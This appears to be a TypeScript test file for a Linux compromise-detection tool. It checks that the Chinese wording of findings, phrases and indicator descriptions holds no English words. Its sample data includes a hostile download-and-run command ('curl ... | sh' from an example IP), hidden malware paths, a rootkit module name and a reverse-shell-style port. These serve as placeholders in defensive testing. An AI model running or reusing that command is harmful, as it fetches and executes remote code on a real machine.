import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { format } from '../src/i18n/lang';
import { PHRASES } from '../src/i18n/phrase-catalog';
import { type PhraseId, phrase, renderValue } from '../src/i18n/phrases';
import { builtinIntel } from '../src/intel/intel';
import { RULES } from '../src/rules/registry';
import { dataWords, englishWords } from './helpers/english-words';

// Every message of every rule and every phrase rules compose, rendered in Chinese with realistic
// data: no English word may show outside paths, commands and identifiers. (Whole scans of the
// fixture corpus are checked by test/helpers/scan-fixture.ts.)

/** What a placeholder of that name holds in a real finding: the target's data. */
const SAMPLE: Record<string, string | number> = {
  path: '/tmp/.x/kworkerds',
  file: '/etc/cron.d/0sys',
  dir: '/var/tmp/.ICE-unix',
  name: 'kworkerds',
  pid: 4242,
  ppid: 1,
  user: 'deploy',
  users: 'root, deploy',
  ip: '203.0.113.9',
  count: 3,
  line: 12,
  time: '2026-11-19T03:12:00.000Z',
  mtime: '2026-11-19T03:12:00.000Z',
  first: '2026-11-19T03:00:00.000Z',
  last: '2026-11-19T03:10:00.000Z',
  command: 'curl -fsSL http://203.0.113.9/x.sh | sh',
  exe: '/tmp/.x/kworkerds',
  lib: '/usr/local/lib/libs.so',
  module: 'diamorphine',
  program: '/usr/local/bin/helper',
  uid: 0,
  gid: 0,
  mode: '0755',
  port: 4444,
  size: 4096,
};

const DATA_WORDS = dataWords(SAMPLE);

function sample(key: string): string | number {
  return SAMPLE[key] ?? `/srv/${key}`;
}

function placeholders(...texts: string[]): Record<string, string | number> {
  const data: Record<string, string | number> = {};
  for (const t of texts) for (const [, k] of t.matchAll(/\{(\w+)\}/g)) data[k] = sample(k);
  return data;
}

describe('Chinese wording', () => {
  for (const { meta } of RULES) {
    it(`${meta.id}: every message reads as Chinese`, () => {
      for (const [id, langs] of Object.entries(meta.messages)) {
        const zh = langs['zh-CN'];
        const data = placeholders(zh.title, zh.detail, zh.action);
        for (const part of ['title', 'detail', 'action'] as const) {
          const text = format(zh[part], data, undefined, 'zh-CN');
          assert.deepEqual(englishWords(text, DATA_WORDS), [], `${id}.${part}: ${text}`);
        }
      }
    });
  }

  it('every phrase rules compose has both languages, the same placeholders, and reads as Chinese', () => {
    for (const [id, t] of Object.entries(PHRASES)) {
      const en = [...t.en.matchAll(/\{(\w+)\}/g)].map((m) => m[1]).sort();
      const zh = [...t['zh-CN'].matchAll(/\{(\w+)\}/g)].map((m) => m[1]).sort();
      assert.deepEqual(zh, en, `${id}: placeholders differ`);
      const text = renderValue(phrase(id as PhraseId, placeholders(t['zh-CN'])), 'zh-CN');
      assert.deepEqual(englishWords(text, DATA_WORDS), [], `${id}: ${text}`);
    }
  });

  it('every indicator description shown in a finding has Chinese wording', () => {
    const intel = builtinIntel();
    for (const p of [...intel.commands.patterns, ...intel.miners.argumentPatterns, ...intel.logs.webshellContent])
      assert.ok(p.zh && englishWords(p.zh).length === 0, `${p.id} lacks Chinese wording: ${p.zh ?? '(none)'}`);
  });
});
